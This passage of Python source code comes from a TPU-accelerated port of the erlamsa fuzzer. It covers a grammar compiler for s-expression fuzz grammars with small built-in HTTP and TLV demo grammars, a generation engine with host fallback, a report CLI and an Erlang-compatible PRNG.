    w("")
    return "\n".join(out)


def _load(path: str) -> dict | list | None:
    if not path:
        return None
    with open(path) as f:
        return json.load(f)


def _load_flight(path: str) -> list | None:
    """Flight dumps are JSONL (obs/flight.dump): a meta line then one
    entry per line. A plain JSON list is accepted too."""
    if not path:
        return None
    with open(path) as f:
        text = f.read()
    try:
        doc = json.loads(text)
        return doc if isinstance(doc, list) else doc.get("entries", [])
    except ValueError:
        entries = []
        for line in text.splitlines():
            line = line.strip()
            if not line:
                continue
            entry = json.loads(line)
            if isinstance(entry, dict) and entry.get("type") != "meta":
                entries.append(entry)
        return entries


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(
        prog="python -m erlamsa_tpu.obs.report",
        description="Render the campaign report from a run's telemetry "
                    "artifacts (metrics snapshot, merged trace, flight "
                    "dump).")
    ap.add_argument("--metrics", help="metrics snapshot JSON "
                    "(--metrics-out / faas stats / bench record)")
    ap.add_argument("--trace", help="Chrome-trace JSON (--trace export)")
    ap.add_argument("--flight", help="flight-recorder dump JSON")
    ap.add_argument("--json", dest="json_out",
                    help="also write the report dict as JSON here")
    args = ap.parse_args(argv)
    if not (args.metrics or args.trace or args.flight):
        ap.error("need at least one artifact "
                 "(--metrics / --trace / --flight)")
    try:
        metrics_snap = _load(args.metrics)
        trace_doc = _load(args.trace)
        flight_entries = _load_flight(args.flight)
    except (OSError, ValueError) as e:
        print("report: cannot read artifact: %s" % e, file=sys.stderr)
        return 1
    report = build_report(metrics_snap=metrics_snap, trace_doc=trace_doc,
                          flight_entries=flight_entries)
    if args.json_out:
        try:
            with open(args.json_out, "w") as f:
                json.dump(report, f, indent=2, sort_keys=True)
        except OSError as e:
            print("report: cannot write %s: %s" % (args.json_out, e),
                  file=sys.stderr)
            return 1
    print(render_text(report))
    return 0


if __name__ == "__main__":
    sys.exit(main())
