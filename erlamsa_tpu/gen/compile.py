"""Grammar compiler: genfuzz grammars -> fixed-shape device tables.

The reference expands a grammar recursively, one ErlRand draw at a time
(src/erlamsa_gf.erl; models/genfuzz.py is the faithful host port). That
shape — unbounded recursion, data-dependent output sizes — cannot run as
a jitted TPU program. This module flattens a grammar once, at build time,
into the table-driven form the Ragged-Paged-Attention / DrJAX lineage
uses for variable-length work (PAPERS.md): a production table of int32
rows, a flat children array, a cumulative-weight array for pick_pref and
a uint8 literal pool, plus *static bounds* (panel width, stack depth,
step budget, sizer-record budget, per-node emission width) derived from
the grammar's depth and loop caps. ops/grammar.py walks these tables as
a bounded ``lax.scan`` stack machine; models/genfuzz.generate_keyed
walks the *same* tables with the *same* counter-keyed draws on the host,
which is what makes device output byte-checkable.

DSL (text form accepted by --gen, s-expressions, ';' comments)::

    (static "GET /")            literal bytes ("\\r\\n\\t\\\\\\"\\xNN" escapes)
    (range 97 122)              one byte in [lo, hi]
    (rbyte) (rword) (rdword) (rddword)   1/2/4/8 random bytes
    (rbinary 6)                 n random bytes
    (pick A B ...)              uniform choice of an alternative
    (pick_pref (3 A ...) (1 B ...))      weighted choice of a clause
    (loop 8 BODY ...)           1..max repetitions of the body sequence
    (sizer u16be BODY ...)      length field over the body; fmt in
                                u8/u16be/u16le/u32be/u32le
    (block BODY ...)            grouping
    (session KEY "default")     replay-session slot; the device table
                                compiles the default verbatim

A file of s-expressions at top level is one grammar (a sequence).
Python-tuple grammars (models/genfuzz.py docstring) compile directly.
All spec/parse problems raise GenSpecError — the CLI turns those into
hard errors, never a silently-empty campaign.
"""

from __future__ import annotations

import dataclasses
import os
import zlib

import numpy as np

# Production-table node kinds (prod[:, 0]).
K_STATIC = 0  # a=pool_off, b=len; fuzz flips one byte
K_RANGE = 1  # a=lo, b=hi; fuzz substitutes an out-of-range byte
K_RBYTES = 2  # a=n random bytes, drawn left-to-right
K_PICK = 3  # uniform child choice
K_PICKP = 4  # weighted child choice; b=total weight, cweights cumulative
K_LOOP = 5  # a=max_n; child[0]=body; fuzz multiplies the repeat count
K_SIZER = 6  # a=width, b=endian; children=[body, end-marker]
K_SZEND = 7  # a=width, b=endian; synthetic: closes a sizer record
K_SEQ = 8  # push children in order
K_VERB = 9  # a=pool_off, b=len; verbatim literal, never fuzzed
N_KINDS = 10

ENDIAN_BIG = 0
ENDIAN_LITTLE = 1

_SIZER_WE = {
    "u8": (1, ENDIAN_BIG),
    "u16be": (2, ENDIAN_BIG),
    "u16le": (2, ENDIAN_LITTLE),
    "u32be": (4, ENDIAN_BIG),
    "u32le": (4, ENDIAN_LITTLE),
}

# Hard caps: a grammar whose static bounds exceed these is a spec error
# (the device panel is fixed-shape; unbounded grammars belong on the
# sequential ErlRand path).
EMIT_CAP = 1024  # max bytes one node execution may emit
WIDTH_CAP = 8192  # max panel width
STEP_CAP = 4096  # max stack-machine steps per sample
REC_CAP = 256  # max sizer records per sample
STACK_CAP = 512
# Fuzzed loops multiply their repeat count by up to (1 + rand_log(6));
# budgets get this headroom factor before hitting the caps so moderate
# blowups complete instead of truncating.
FUZZ_HEADROOM = 4


class GenSpecError(ValueError):
    """A grammar spec/DSL problem: bad syntax, unknown node, bounds
    blown. The CLI treats this as a hard error."""


@dataclasses.dataclass
class CompiledGrammar:
    prod: np.ndarray  # int32 [n_nodes, 5]: kind, a, b, child_off, child_cnt
    children: np.ndarray  # int32 flat child-index array (+pad)
    cweights: np.ndarray  # int32 cumulative pick_pref weights (+sentinel pad)
    pool: np.ndarray  # uint8 literal pool (+emit pad)
    root: int  # root node index
    width: int  # output panel width W
    emit: int  # max bytes emitted by one node execution
    stack: int  # stack rows (incl. scratch slack)
    max_steps: int  # scan step budget
    max_recs: int  # sizer record rows
    max_child: int  # max children of any node
    depth: int  # _flatten_depth of the source grammar
    fuzz_prob: float  # 1/max(2*depth, 2) — fuzz_grammar's scaling
    grammar_id: int  # stable table hash; keys the TAG_GEN draw chain
    source: str  # short human label (builtin name / path / "<tuple>")


# ---------------------------------------------------------------- DSL --

_ESCAPES = {"n": 10, "r": 13, "t": 9, "0": 0, '"': 34, "\\": 92}


def _tokenize(text: str):
    toks: list[tuple[str, object, int]] = []  # (type, value, pos)
    i, n = 0, len(text)
    while i < n:
        c = text[i]
        if c in " \t\r\n":
            i += 1
        elif c == ";":
            while i < n and text[i] != "\n":
                i += 1
        elif c in "()":
            toks.append((c, c, i))
            i += 1
        elif c == '"':
            j, buf = i + 1, bytearray()
            while j < n and text[j] != '"':
                if text[j] == "\\":
                    if j + 1 >= n:
                        raise GenSpecError(f"unterminated escape at byte {j}")
                    e = text[j + 1]
                    if e == "x":
                        if j + 3 >= n:
                            raise GenSpecError(f"bad \\x escape at byte {j}")
                        try:
                            buf.append(int(text[j + 2 : j + 4], 16))
                        except ValueError:
                            raise GenSpecError(
                                f"bad \\x escape at byte {j}"
                            ) from None
                        j += 4
                        continue
                    if e not in _ESCAPES:
                        raise GenSpecError(f"unknown escape \\{e} at byte {j}")
                    buf.append(_ESCAPES[e])
                    j += 2
                else:
                    buf.append(ord(text[j]) & 0xFF)
                    j += 1
            if j >= n:
                raise GenSpecError(f"unterminated string at byte {i}")
            toks.append(("str", bytes(buf), i))
            i = j + 1
        else:
            j = i
            while j < n and text[j] not in ' \t\r\n();"':
                j += 1
            atom = text[i:j]
            try:
                toks.append(("int", int(atom, 0), i))
            except ValueError:
                toks.append(("sym", atom, i))
            i = j
    return toks


def _parse_sexprs(toks, i=0, depth=0):
    """Parse a token run into nested lists; returns (exprs, next_i)."""
    out = []
    while i < len(toks):
        t, v, pos = toks[i]
        if t == "(":
            inner, i = _parse_sexprs(toks, i + 1, depth + 1)
            if i >= len(toks) or toks[i][0] != ")":
                raise GenSpecError(f"unclosed '(' at byte {pos}")
            out.append(inner)
            i += 1
        elif t == ")":
            if depth == 0:
                raise GenSpecError(f"unbalanced ')' at byte {pos}")
            return out, i
        else:
            out.append(v)
            i += 1
    if depth != 0:
        raise GenSpecError("unclosed '(' at end of input")
    return out, i


def _sexpr_to_node(sx):
    """One parsed s-expression -> a python-tuple grammar node."""
    if isinstance(sx, bytes):
        return ("static", sx)
    if isinstance(sx, int):
        raise GenSpecError(f"bare integer {sx} outside a form")
    if not isinstance(sx, list) or not sx or not isinstance(sx[0], str):
        raise GenSpecError(f"expected (op ...), got {sx!r}")
    op, rest = sx[0].replace("-", "_"), sx[1:]
    if op == "static":
        if len(rest) != 1 or not isinstance(rest[0], bytes):
            raise GenSpecError('(static "...") wants one string')
        return ("static", rest[0])
    if op == "range":
        if len(rest) != 2 or not all(isinstance(x, int) for x in rest):
            raise GenSpecError("(range lo hi) wants two integers")
        lo, hi = rest
        if not (0 <= lo <= hi <= 255):
            raise GenSpecError(f"(range {lo} {hi}): want 0 <= lo <= hi <= 255")
        return ("range", lo, hi)
    if op in ("rbyte", "rword", "rdword", "rddword"):
        if rest:
            raise GenSpecError(f"({op}) takes no arguments")
        return (op,)
    if op == "rbinary":
        if len(rest) != 1 or not isinstance(rest[0], int) or rest[0] < 0:
            raise GenSpecError("(rbinary n) wants one non-negative integer")
        return ("rbinary", rest[0])
    if op == "pick":
        if not rest:
            raise GenSpecError("(pick ...) wants at least one alternative")
        return ("pick", [_sexpr_to_node(a) for a in rest])
    if op == "pick_pref":
        clauses = []
        for cl in rest:
            if (
                not isinstance(cl, list)
                or len(cl) < 2
                or not isinstance(cl[0], int)
                or cl[0] <= 0
            ):
                raise GenSpecError(
                    "(pick_pref (weight node ...) ...): each clause wants a "
                    "positive integer weight then a body"
                )
            clauses.append((cl[0], [_sexpr_to_node(x) for x in cl[1:]]))
        if not clauses:
            raise GenSpecError("(pick_pref ...) wants at least one clause")
        return ("pick_pref", clauses)
    if op == "loop":
        if len(rest) < 2 or not isinstance(rest[0], int) or rest[0] < 1:
            raise GenSpecError("(loop max body...) wants max >= 1 and a body")
        return ("loop", [_sexpr_to_node(x) for x in rest[1:]], rest[0])
    if op == "sizer":
        if len(rest) < 2 or rest[0] not in _SIZER_WE:
            raise GenSpecError(
                "(sizer fmt body...) wants fmt in "
                + "/".join(sorted(_SIZER_WE))
            )
        return ("sizer", rest[0], [_sexpr_to_node(x) for x in rest[1:]])
    if op == "block":
        return ("block", [_sexpr_to_node(x) for x in rest])
    if op in ("session", "session_get"):
        if (
            len(rest) != 2
            or not isinstance(rest[0], str)
            or not isinstance(rest[1], bytes)
        ):
            raise GenSpecError('(session key "default") wants a key + string')
        return ("session_get", rest[0], rest[1])
    raise GenSpecError(f"unknown grammar form ({op} ...)")


def parse_grammar(text: str) -> list:
    """DSL text -> python-tuple grammar (a list of nodes)."""
    exprs, _ = _parse_sexprs(_tokenize(text))
    if not exprs:
        raise GenSpecError("empty grammar")
    return [_sexpr_to_node(sx) for sx in exprs]


# Builtin grammars: small, exercise every node kind, usable as smoke /
# bench fixtures without shipping files around.
BUILTIN_GRAMMARS = {
    "demo-http": (
        '(static "GET /")\n'
        "(loop 8 (pick (range 97 122) (range 48 57) (static \"/\")))\n"
        '(static " HTTP/1.0\\r\\n")\n'
        '(pick_pref (3 (static "Host: a\\r\\n"))\n'
        '           (1 (static "X-Pad: ") (rbinary 4) (static "\\r\\n")))\n'
        '(static "\\r\\n")'
    ),
    "demo-tlv": (
        "(loop 4 (range 1 4) (sizer u16be (rbinary 6) "
        '(pick (static "") (static "!"))))\n'
        '(static "\\x00\\x00")'
    ),
    "demo-lines": (
        '(loop 6 (pick_pref (2 (static "key=") (rbinary 3))\n'
        '                   (1 (static "# comment")))\n'
        '        (static "\\n"))'
    ),
}


def load_grammar(spec: str) -> tuple[list, str]:
    """Resolve a --gen grammar reference: a builtin name or a DSL file
    path. Returns (grammar, label). Raises GenSpecError on anything
    unloadable or unparsable."""
    if spec in BUILTIN_GRAMMARS:
        return parse_grammar(BUILTIN_GRAMMARS[spec]), spec
    if os.path.exists(spec):
        try:
            with open(spec, "r", encoding="utf-8") as f:
                text = f.read()
        except OSError as e:
            raise GenSpecError(f"cannot read grammar file {spec}: {e}")
        try:
            return parse_grammar(text), os.path.basename(spec)
        except GenSpecError as e:
            raise GenSpecError(f"{spec}: {e}")
    raise GenSpecError(
        f"no builtin grammar or file named {spec!r} "
        f"(builtins: {', '.join(sorted(BUILTIN_GRAMMARS))})"
    )


# ----------------------------------------------------------- compiler --


def _norm(node):
    """Normalize to ("kind", ...) tuples; lists/bytes get wrapped."""
    if isinstance(node, list):
        return ("block", [_norm(x) for x in node])
    if isinstance(node, (bytes, bytearray)):
        return ("static", bytes(node))
    if not isinstance(node, tuple) or not node:
        raise GenSpecError(f"unknown grammar node {node!r}")
    kind = node[0]
    if kind in ("static", "range", "rbinary", "session_get"):
        return node
    if kind in ("rbyte", "rword", "rdword", "rddword"):
        return node
    if kind == "pick":
        if not node[1]:
            raise GenSpecError("pick with no alternatives")
        return ("pick", [_norm(g) for g in node[1]])
    if kind == "pick_pref":
        if not node[1]:
            raise GenSpecError("pick_pref with no clauses")
        if any(w <= 0 for w, _g in node[1]):
            raise GenSpecError("pick_pref weights must be positive")
        return ("pick_pref", [(int(w), _norm(g)) for w, g in node[1]])
    if kind == "loop":
        if int(node[2]) < 1:
            raise GenSpecError("loop max_n must be >= 1")
        return ("loop", _norm(node[1]), int(node[2]))
    if kind == "sizer":
        if node[1] not in _SIZER_WE:
            raise GenSpecError(f"sizer fmt {node[1]!r} not in {_SIZER_WE}")
        return ("sizer", node[1], _norm(node[2]))
    if kind == "block":
        return ("block", [_norm(g) for g in node[1]])
    raise GenSpecError(f"unknown grammar node {node!r}")


_RB_N = {"rbyte": 1, "rword": 2, "rdword": 4, "rddword": 8}


def _bounds(node):
    """Static bounds of a normalized node: (steps, bytes, stack, recs)."""
    kind = node[0]
    if kind in ("static", "session_get"):
        return 1, len(node[-1]), 1, 0
    if kind == "range":
        return 1, 1, 1, 0
    if kind in _RB_N:
        return 1, _RB_N[kind], 1, 0
    if kind == "rbinary":
        return 1, node[1], 1, 0
    if kind == "pick":
        subs = [_bounds(g) for g in node[1]]
        return (
            1 + max(s[0] for s in subs),
            max(s[1] for s in subs),
            max(s[2] for s in subs),
            max(s[3] for s in subs),
        )
    if kind == "pick_pref":
        subs = [_bounds(g) for _w, g in node[1]]
        return (
            1 + max(s[0] for s in subs),
            max(s[1] for s in subs),
            max(s[2] for s in subs),
            max(s[3] for s in subs),
        )
    if kind == "loop":
        st, by, sk, rc = _bounds(node[1])
        n = node[2]
        return 1 + n * st, n * by, 1 + sk, n * rc
    if kind == "sizer":
        st, by, sk, rc = _bounds(node[2])
        w, _e = _SIZER_WE[node[1]]
        return 2 + st, w + by, 1 + sk, 1 + rc
    if kind == "block":
        subs = [_bounds(g) for g in node[1]]
        steps = 1 + sum(s[0] for s in subs)
        nbytes = sum(s[1] for s in subs)
        k = len(subs)
        stack = max(
            [1] + [s[2] + (k - 1 - i) for i, s in enumerate(subs)]
        )
        return steps, nbytes, stack, sum(s[3] for s in subs)
    raise GenSpecError(f"unknown grammar node {node!r}")


class _Builder:
    def __init__(self):
        self.rows: list[list[int]] = []  # kind, a, b, child_off, child_cnt
        self.children: list[int] = []
        self.cweights: list[int] = []
        self.pool = bytearray()

    def row(self, kind, a=0, b=0) -> int:
        self.rows.append([kind, a, b, 0, 0])
        return len(self.rows) - 1

    def set_children(self, idx: int, kids: list[int], weights=None):
        self.rows[idx][3] = len(self.children)
        self.rows[idx][4] = len(kids)
        self.children.extend(kids)
        if weights is not None:
            acc = 0
            for w in weights:
                acc += w
                self.cweights.append(acc)
            self.rows[idx][2] = acc  # b = total weight
        else:
            self.cweights.extend([1 << 30] * len(kids))

    def lit(self, data: bytes) -> int:
        off = len(self.pool)
        self.pool.extend(data)
        return off

    def emit(self, node) -> int:
        kind = node[0]
        if kind == "static":
            return self.row(K_STATIC, self.lit(node[1]), len(node[1]))
        if kind == "session_get":
            return self.row(K_VERB, self.lit(node[2]), len(node[2]))
        if kind == "range":
            return self.row(K_RANGE, node[1], node[2])
        if kind in _RB_N:
            return self.row(K_RBYTES, _RB_N[kind])
        if kind == "rbinary":
            return self.row(K_RBYTES, node[1])
        if kind == "pick":
            idx = self.row(K_PICK)
            self.set_children(idx, [self.emit(g) for g in node[1]])
            return idx
        if kind == "pick_pref":
            idx = self.row(K_PICKP)
            kids = [self.emit(g) for _w, g in node[1]]
            self.set_children(idx, kids, weights=[w for w, _g in node[1]])
            return idx
        if kind == "loop":
            idx = self.row(K_LOOP, node[2])
            self.set_children(idx, [self.emit(node[1])])
            return idx
        if kind == "sizer":
            w, e = _SIZER_WE[node[1]]
            idx = self.row(K_SIZER, w, e)
            body = self.emit(node[2])
            end = self.row(K_SZEND, w, e)
            self.set_children(idx, [body, end])
            return idx
        if kind == "block":
            idx = self.row(K_SEQ)
            self.set_children(idx, [self.emit(g) for g in node[1]])
            return idx
        raise GenSpecError(f"unknown grammar node {node!r}")


def compile_grammar(grammar, width: int | None = None,
                    source: str = "<tuple>") -> CompiledGrammar:
    """Flatten a genfuzz grammar into device tables with static bounds.

    `grammar` is a python-tuple grammar (models/genfuzz.py docstring) or
    a DSL string. Raises GenSpecError when any static bound blows its
    cap — that is a spec problem, not a runtime one.
    """
    if isinstance(grammar, str):
        grammar = parse_grammar(grammar)
    # depth BEFORE normalization: fuzz_grammar computes it on the raw
    # tuple form, and the 1/depth scaling must match it exactly.
    from ..models.genfuzz import _flatten_depth

    depth = _flatten_depth(grammar)
    root_node = _norm(grammar)
    steps, nbytes, stack, recs = _bounds(root_node)

    b = _Builder()
    root = b.emit(root_node)
    prod = np.asarray(b.rows, dtype=np.int32)

    emit = 1
    for kind, a, bb, _o, _c in b.rows:
        if kind in (K_STATIC, K_VERB):
            emit = max(emit, bb)
        elif kind == K_RBYTES:
            emit = max(emit, a)
        elif kind == K_SIZER:
            emit = max(emit, a)
    if emit > EMIT_CAP:
        raise GenSpecError(
            f"a single literal/rbinary emits {emit} bytes "
            f"(cap {EMIT_CAP}); split it up"
        )
    if width is None:
        width = min(max(nbytes, 16), WIDTH_CAP)
    if width > WIDTH_CAP:
        raise GenSpecError(f"panel width {width} exceeds cap {WIDTH_CAP}")
    if stack + 8 > STACK_CAP:
        raise GenSpecError(
            f"grammar needs {stack} stack rows (cap {STACK_CAP})"
        )
    max_steps = min(FUZZ_HEADROOM * steps + 64, STEP_CAP)
    max_recs = max(min(FUZZ_HEADROOM * recs + 4, REC_CAP), 1)
    max_child = max([int(r[4]) for r in b.rows] + [1])

    children = np.asarray(
        (b.children or [0]) + [0] * max_child, dtype=np.int32
    )
    cweights = np.asarray(
        (b.cweights or [1 << 30]) + [1 << 30] * max_child, dtype=np.int32
    )
    pool = np.frombuffer(
        bytes(b.pool) + b"\x00" * max(emit, 1), dtype=np.uint8
    ).copy()

    canon = repr(
        (prod.tolist(), children.tolist(), cweights.tolist(),
         bytes(b.pool), root, width, max_steps, max_recs)
    ).encode()
    grammar_id = zlib.crc32(canon) & 0x7FFFFFFF

    return CompiledGrammar(
        prod=prod,
        children=children,
        cweights=cweights,
        pool=pool,
        root=root,
        width=int(width),
        emit=int(emit),
        stack=int(stack + 8 + max_child + 1),
        max_steps=int(max_steps),
        max_recs=int(max_recs),
        max_child=int(max_child),
        depth=int(depth),
        fuzz_prob=1.0 / max(depth * 2, 2),
        grammar_id=int(grammar_id),
        source=source,
    )
