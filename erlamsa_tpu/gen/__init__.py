"""Device grammar generation: compiler + engine (r17).

gen/compile.py flattens genfuzz grammars (models/genfuzz.py tuple form
or the --gen s-expression DSL) into fixed-shape int32/uint8 tables;
ops/grammar.py expands those tables as a bounded, counter-keyed stack
machine on device; gen/engine.py wraps both behind the ``gen.expand``
chaos site with a byte-identical host-oracle fallback. See the README's
"Generation-based fuzzing" section for the DSL and --gen usage.
"""

from .compile import (BUILTIN_GRAMMARS, CompiledGrammar, GenSpecError,
                      compile_grammar, load_grammar, parse_grammar)
from .engine import GenEngine

__all__ = [
    "BUILTIN_GRAMMARS",
    "CompiledGrammar",
    "GenSpecError",
    "GenEngine",
    "compile_grammar",
    "load_grammar",
    "parse_grammar",
]
