"""GenEngine: the host-side face of device grammar generation.

Owns one compiled grammar plus its jitted expander and turns "give me N
generated samples for case C" into either ONE device call (the hot
path — zero per-sample host work) or, when the device call fails, a
per-(case, slot) walk of the keyed host oracle. Both paths consume the
identical TAG_GEN draw chain, so a campaign that loses its device mid-
generation produces byte-identical panels to one that never did — the
same availability-over-latency trade the corpus runner makes, pinned by
tests. The device call is guarded by the ``gen.expand`` chaos site
(services/chaos.py), which is how the fallback path gets exercised in
CI instead of waiting for a real XLA abort.

Recovery mirrors corpus/runner.py: after a failure the engine serves
from the host oracle and re-probes the device every PROBE_EVERY
expansions, clearing the degraded flag on success.
"""

from __future__ import annotations

import numpy as np

from ..obs import flight
from ..services import metrics
from ..services.chaos import InjectedFault, fault_point
from .compile import CompiledGrammar

PROBE_EVERY = 4  # degraded-mode device re-probe cadence, in expansions


class GenEngine:
    def __init__(self, compiled: CompiledGrammar, seed, fuzz: bool = False):
        self.cg = compiled
        self.seed = seed
        self.fuzz = bool(fuzz)
        self.degraded = False
        self.host_fallbacks = 0
        self.expansions = 0
        self._fn = None
        self._base = None
        self._probe_in = 0

    # -- device path -----------------------------------------------------

    def _ensure_fn(self):
        if self._fn is None:
            from ..ops import grammar, prng

            self._base = prng.base_key(self.seed)
            self._fn = grammar.make_expand(self.cg, fuzz=self.fuzz)
        return self._fn

    def _device_expand(self, case_idx: int, slots: np.ndarray):
        fn = self._ensure_fn()
        panel, lens, trunc = fn(self._base, int(case_idx), slots)
        return (
            np.asarray(panel, np.uint8),
            np.asarray(lens, np.int32),
            np.asarray(trunc, np.int32),
        )

    # -- host twin -------------------------------------------------------

    def _host_expand(self, case_idx: int, slots: np.ndarray):
        import jax

        from ..models.genfuzz import generate_keyed
        from ..ops import grammar, prng

        base = prng.base_key(self.seed)
        ck = grammar.gen_case_key(base, self.cg.grammar_id, int(case_idx))
        rows, lens, truncs = [], [], []
        for s in slots.tolist():
            row, ln, tr = generate_keyed(
                self.cg, jax.random.fold_in(ck, int(s)), fuzz=self.fuzz
            )
            rows.append(np.frombuffer(row, np.uint8))
            lens.append(ln)
            truncs.append(int(tr))
        return (
            np.stack(rows),
            np.asarray(lens, np.int32),
            np.asarray(truncs, np.int32),
        )

    # -- public API ------------------------------------------------------

    def expand(self, case_idx: int, n: int | None = None, slots=None):
        """Generate one panel: samples for `slots` (or range(n)) of
        `case_idx`. Returns (payloads list[bytes], truncated_count).
        Device-first; degrades per-(case, slot) to the keyed host
        oracle on an injected or real device failure."""
        if slots is None:
            slots = np.arange(int(n), dtype=np.int32)
        else:
            slots = np.asarray(slots, np.int32)
        used_host = False
        if self.degraded:
            self._probe_in -= 1
            probe = self._probe_in <= 0
        else:
            probe = True
        if probe:
            try:
                fault_point("gen.expand")
                panel, lens, trunc = self._device_expand(case_idx, slots)
                if self.degraded:
                    from ..services import logger

                    logger.log("info", "gen: device recovered, leaving "
                               "degraded mode")
                    self.degraded = False
                    metrics.GLOBAL.set_gen_degraded(False)
            except Exception as e:  # lint: broad-except-ok re-raised below unless device/injected
                from ..ops.pipeline import is_device_error

                if not isinstance(e, InjectedFault) and not is_device_error(e):
                    raise
                used_host = True
        else:
            used_host = True
        if used_host:
            if not self.degraded:
                from ..services import logger

                logger.log("warning", "gen: device expansion failed, "
                           "degrading to keyed host oracle")
                self.degraded = True
                metrics.GLOBAL.set_gen_degraded(True)
            if probe:
                # only a *failed probe* re-arms the countdown; countdown
                # expansions must keep draining toward the next probe
                self._probe_in = PROBE_EVERY
            panel, lens, trunc = self._host_expand(case_idx, slots)
            self.host_fallbacks += len(slots)
            metrics.GLOBAL.record_gen_fallback(len(slots))

        payloads = [
            panel[i, : int(lens[i])].tobytes() for i in range(len(slots))
        ]
        nbytes = int(lens.sum())
        ntrunc = int(trunc.sum())
        self.expansions += len(slots)
        metrics.GLOBAL.record_gen_expand(len(slots), nbytes, ntrunc)
        flight.GLOBAL.note(
            "gen_panel",
            grammar=self.cg.source,
            grammar_id=self.cg.grammar_id,
            case=int(case_idx),
            samples=len(slots),
            bytes=nbytes,
            truncated=ntrunc,
            host=used_host,
        )
        return payloads, ntrunc
