"""Host-side utilities: oracle PRNG, byte helpers."""
