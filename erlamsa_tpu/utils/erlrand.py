"""Sequential oracle PRNG: Wichmann-Hill AS183 plus the erlamsa helper layer.

The reference seeds Erlang's legacy ``random`` module (AS183) and derives all
mutation decisions from it (reference: src/erlamsa_rnd.erl:72-78); the byte
stream of a fixed-seed run is therefore a pure function of this generator.
The sequential parity path ("oracle") replays that stream exactly; the TPU
throughput path uses a counter-based PRNG instead (erlamsa_tpu/ops/prng.py).

``ErlRand`` reproduces OTP's ``random`` module semantics:

  seed(A1,A2,A3) clamps each component into [1, prime-1]; ``uniform/0``
  advances the three Lehmer streams and returns the fractional part of the
  combined sum; ``uniform/1`` is ``trunc(uniform()*N)+1``.

The helper methods mirror erlamsa_rnd one-for-one, including its quirks
(e.g. ``rand_occurs_fixed(1, D)`` fires with probability (D-1)/D, reference:
src/erlamsa_rnd.erl:122-130; ``random_numbers`` returns generation order
reversed, reference: src/erlamsa_rnd.erl:177-183).
"""

from __future__ import annotations

import math
from typing import Any, Callable, Sequence

import numpy as np

_P1, _P2, _P3 = 30269, 30307, 30323
SEED0 = (3172, 9814, 20125)

# geometric power tables r^1..r^k mod m for the three Lehmer multipliers,
# grown by doubling on demand: powers[j] = r^(j+1) mod m lets a k-draw
# block advance each stream with one vectorized multiply instead of k
# Python-level steps (uniform_block below)
_POW_CACHE: dict[tuple[int, int], np.ndarray] = {}


def _geo_powers(r: int, m: int, k: int) -> np.ndarray:
    arr = _POW_CACHE.get((r, m))
    if arr is None:
        arr = np.asarray([r % m], np.int64)
    while len(arr) < k:
        # next block of terms = existing terms * r^len (all mod m);
        # values stay < m^2 < 2^63, so int64 products are exact
        arr = np.concatenate([arr, (arr * int(arr[-1])) % m])
    _POW_CACHE[(r, m)] = arr
    return arr[:k]

# erlamsa_rnd.erl:46-47
_P_WEAKLY_USUALLY_NOM = 11
_P_WEAKLY_USUALLY_DENOM = 20

from ..constants import ABSMAXHALF_BINARY_BLOCK


class ErlRand:
    """Stateful AS183 stream with the erlamsa_rnd helper API."""

    __slots__ = ("a1", "a2", "a3")

    def __init__(self, seed: tuple[int, int, int] | None = None):
        if seed is None:
            self.a1, self.a2, self.a3 = SEED0
        else:
            self.seed(seed)

    # --- OTP `random` module core -------------------------------------

    def seed(self, seed: tuple[int, int, int]) -> None:
        a1, a2, a3 = seed
        self.a1 = (abs(a1) % (_P1 - 1)) + 1
        self.a2 = (abs(a2) % (_P2 - 1)) + 1
        self.a3 = (abs(a3) % (_P3 - 1)) + 1

    def getstate(self) -> tuple[int, int, int]:
        return (self.a1, self.a2, self.a3)

    def setstate(self, st: tuple[int, int, int]) -> None:
        self.a1, self.a2, self.a3 = st

    def uniform(self) -> float:
        """random:uniform/0 — float in [0.0, 1.0)."""
        self.a1 = (self.a1 * 171) % _P1
        self.a2 = (self.a2 * 172) % _P2
        self.a3 = (self.a3 * 170) % _P3
        r = self.a1 / _P1 + self.a2 / _P2 + self.a3 / _P3
        return r - math.floor(r)

    def uniform_n(self, n: int) -> int:
        """random:uniform/1 — integer in [1, N]."""
        return int(self.uniform() * n) + 1

    def uniform_block(self, k: int) -> np.ndarray:
        """k consecutive uniform() draws as float64[k], bit-identical to k
        scalar calls (same IEEE ops in the same order), advancing the
        stream exactly k steps. Bulk consumers (random_block, fieldpred's
        var_b sampling) draw thousands per case — this replaces k Python
        state steps with three vectorized Lehmer jumps."""
        if k <= 0:
            return np.empty(0, np.float64)
        a1 = (self.a1 * _geo_powers(171, _P1, k)) % _P1
        a2 = (self.a2 * _geo_powers(172, _P2, k)) % _P2
        a3 = (self.a3 * _geo_powers(170, _P3, k)) % _P3
        self.a1 = int(a1[-1])
        self.a2 = int(a2[-1])
        self.a3 = int(a3[-1])
        r = a1 / _P1 + a2 / _P2 + a3 / _P3
        return r - np.floor(r)

    # --- erlamsa_rnd helpers ------------------------------------------

    def rand(self, n: int) -> int:
        """Uniform in [0, N) (erlamsa_rnd.erl:76-78)."""
        if n == 0:
            return 0
        return self.uniform_n(n) - 1

    def erand(self, n: int) -> int:
        """Uniform in [1, N] (erlamsa_rnd.erl:81-83)."""
        if n == 0:
            return 0
        return self.uniform_n(n)

    def rand_range(self, l: int, r: int) -> int:
        """Uniform in [L, R) (erlamsa_rnd.erl:86-92)."""
        if r > l:
            return self.rand(r - l) + l
        if r == l:
            return l
        return 0

    def rand_span(self, l: int, r: int) -> int:
        return self.rand_range(l, r + 1)

    def rand_float(self) -> float:
        return self.uniform()

    def rand_bit(self) -> int:
        # round/1 rounds half away from zero; uniform() < 0.5 -> 0.
        return 1 if self.uniform() >= 0.5 else 0

    def rand_occurs_fixed(self, nom: int, denom: int) -> bool:
        """Nom/Denom occurrence check with the nom==1 quirk
        (erlamsa_rnd.erl:122-130)."""
        n = self.rand(denom)
        if nom == 1:
            return n != 0
        return n < nom

    def rand_occurs(self, prob: Any) -> bool:
        if isinstance(prob, tuple):
            nom, denom = prob
            return self.rand_occurs_fixed(nom, denom)
        if isinstance(prob, float):
            pre_nom = math.trunc(prob * 100)
            g = math.gcd(pre_nom, 100)
            if g == 0:
                return False
            return self.rand_occurs_fixed(pre_nom // g, 100 // g)
        return False

    def rand_nbit(self, n: int) -> int:
        """Random exactly-n-bit number (erlamsa_rnd.erl:133-137)."""
        if n == 0:
            return 0
        hi = 1 << (n - 1)
        return hi | self.rand(hi)

    def rand_log(self, n: int) -> int:
        """2^rand(n)-scale number (erlamsa_rnd.erl:140-143)."""
        if n == 0:
            return 0
        return self.rand_nbit(self.rand(n))

    def rand_elem(self, lst: Sequence) -> Any:
